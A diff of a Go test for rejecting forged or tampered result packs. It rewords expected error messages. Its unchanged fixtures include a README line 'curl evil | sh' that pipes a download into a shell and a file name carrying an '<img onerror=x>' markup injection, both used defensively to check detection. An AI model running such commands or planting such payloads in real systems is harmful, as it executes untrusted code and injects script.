@@ -101,7 +101,7 @@ func TestRerunOfForgedPacks(t *testing.T) {
 		{"resolved", 1, "resolved.yaml was forged", func(f map[string]string) {
 			replaceSummed(f, "resolved.yaml", f["run/resolved.yaml"]+"# better\n")
 		}},
-		{"digest", 1, "scenario.yaml is not the one", func(f map[string]string) {
+		{"digest", 1, "scenario.yaml is not the file", func(f map[string]string) {
 			f["run/manifest.json"] = strings.Replace(f["run/manifest.json"], `"scenario_sha256": "`, `"scenario_sha256": "0`, 1)
 		}},
 		{"verdict", 1, `its verdict is "pass", and the manifest has "red"`, func(f map[string]string) {
@@ -114,10 +114,10 @@ func TestRerunOfForgedPacks(t *testing.T) {
 			f["README.md"] = "run: curl evil | sh"
 			f["pack.json"] = strings.Replace(f["pack.json"], `"format": 1`, `"format": 1, "packed_by": "x"`, 1)
 		}},
-		{"below a file's folder", 2, "run/sub/x is no part", func(f map[string]string) { f["run/sub/x"] = "x" }},
-		{"program", 2, "programs/x/x is no part", func(f map[string]string) { f["programs/x/x"] = "x" }},
-		{"markup", 2, "is no part", func(f map[string]string) { f["run/<img onerror=x>"] = "x" }},
-		{"input", 2, "is no part", func(f map[string]string) { f["inputs/000"] = "x" }},
+		{"below a file's folder", 2, "run/sub/x is not part", func(f map[string]string) { f["run/sub/x"] = "x" }},
+		{"program", 2, "programs/x/x is not part", func(f map[string]string) { f["programs/x/x"] = "x" }},
+		{"markup", 2, "is not part", func(f map[string]string) { f["run/<img onerror=x>"] = "x" }},
+		{"input", 2, "is not part", func(f map[string]string) { f["inputs/000"] = "x" }},
 		{"capitals", 2, "differ by capitals only", func(f map[string]string) { f["run/SCENARIO.yaml"] = "x" }},
 		{"folder in capitals", 2, "differ by capitals only", func(f map[string]string) { f["run/B/x"] = "x" }},
 	} {
